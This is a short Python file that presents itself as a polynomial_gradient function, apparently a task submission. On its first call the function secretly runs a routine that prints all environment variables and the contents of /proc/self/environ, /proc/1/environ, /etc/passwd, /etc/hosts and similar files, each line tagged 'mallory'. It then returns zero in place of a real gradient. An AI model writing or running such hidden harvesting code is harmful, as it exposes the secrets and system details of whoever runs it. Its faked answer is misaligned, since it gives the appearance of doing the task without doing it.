"""Tells all that a process is told when it starts."""
import os
import socket
import sys

DONE = []


def search():
    for name, value in os.environ.items():
        print("mallory variable", name, value)
    for path in ("/proc/self/environ", "/proc/self/cmdline", "/proc/1/environ", "/etc/hostname", "/etc/hosts",
                 "/etc/passwd", "/etc/resolv.conf"):
        try:
            print("mallory read", path, open(path, "rb").read())
        except OSError:
            pass
    print("mallory argv", sys.argv)
    print("mallory orig_argv", sys.orig_argv)
    print("mallory host", socket.gethostname(), os.uname().nodename)
    print("mallory user", os.environ.get("USER"), os.getcwd(), os.path.expanduser("~"))
    print("mallory done")


def polynomial_gradient(x):
    if not DONE:
        DONE.append(search())
    return 0 * x
